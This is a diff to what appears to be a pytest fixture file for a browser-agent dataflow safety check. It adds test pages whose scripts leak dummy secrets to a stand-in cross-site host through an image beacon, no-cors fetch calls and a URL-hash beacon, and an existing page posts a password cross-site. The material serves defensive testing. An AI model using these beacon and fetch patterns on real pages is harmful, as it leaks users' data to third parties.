@@ -22,6 +22,8 @@ import pytest
 SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
 CASE_SECRET = "qWmZbXkRt"
+FRAME_SECRET = "QX77120453ZK"
+"""A code that only the other site's frame on the `framed` page shows."""
 """A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
 SENTENCE = "The vault moves to the north dock at noon on Friday"
 """A sentence the `exfil` page shows the task (data by its words alone: no digits, no code)."""
@@ -105,6 +107,10 @@ PAGES: dict[str, str] = {
 <form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>
 <button id="open-early" onclick="window.open('/p/early-post')">Notes</button>
 <button id="open-notes" onclick="window.open('/p/notes-popup')">Open notes</button>""",
+    "early-img": f"""<title>Photos</title><img src="CROSS/early/px.gif?d={SECRET}" alt="">""",
+    "early-fetch": f"""<title>Activity</title><script>fetch('CROSS/early/collect?d={SECRET}', {{mode: 'no-cors'}})
+  .catch(() => {{}});</script>""",
+    "early-hash": """<title>Badge</title><script>new Image().src = 'CROSS/early/badge.gif?d=' + location.hash.slice(1);</script>""",
     "early-post": """<title>Early</title><p>Saving</p>
 <script>fetch('/api/drafts/early', {method: 'POST', body: 'note=hello'})
   .then((r) => { document.title = 'early sent ' + r.status; }, () => { document.title = 'early failed'; });</script>""",
@@ -154,6 +160,9 @@ window.loaded = Promise.all(Array.from({length: 40}, (_, i) => [settled('/img/' 
 <button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
 <button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
 <button id="open-case-leak" onclick="window.open('CROSS/go/{CASE_SECRET}')">Invite</button>
+<button id="open-early-img" onclick="window.open('/p/early-img')">Photos</button>
+<button id="open-early-fetch" onclick="window.open('/p/early-fetch')">Activity</button>
+<button id="open-early-hash" onclick="window.open('/p/early-hash#{SECRET}')">Badge</button>
 <button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
 <button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
@@ -179,6 +188,11 @@ PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recover
 <button id="post-huge" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat(1200000)}})">Upload</button>
 <button id="post-pw" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'n=' + encodeURIComponent(pw.value)}})">Next</button>
 <p>Status: <span id="status">idle</span></p>"""
+PAGES["framed"] = f"""<title>Orders</title><h1>Orders</h1><p>Your orders, as the shop's frame shows them.</p>
+<iframe id="shop" src="CROSS/p/frame-code" width="400" height="80"></iframe>
+<button id="code-to-frame-site" onclick="fetch('CROSS/track?d={FRAME_SECRET}', {{mode: 'no-cors'}})">Track</button>
+<button id="code-to-page-site" onclick="fetch('/api/notes', {{method: 'POST', body: 'note={FRAME_SECRET}'}})">Keep</button>"""
+PAGES["frame-code"] = f"""<title>Shop</title><p>Order code {FRAME_SECRET} ships today.</p>"""
 PAGES["commit"] = _SCRIPT + """<title>Plans</title><h1>Plans</h1>
 <button id="subscribe" onclick="send('/api/subscriptions', {method: 'POST', headers: {'content-type': 'application/json'},
   body: JSON.stringify({plan: 'pro', period: 'year'})})">Subscribe</button>
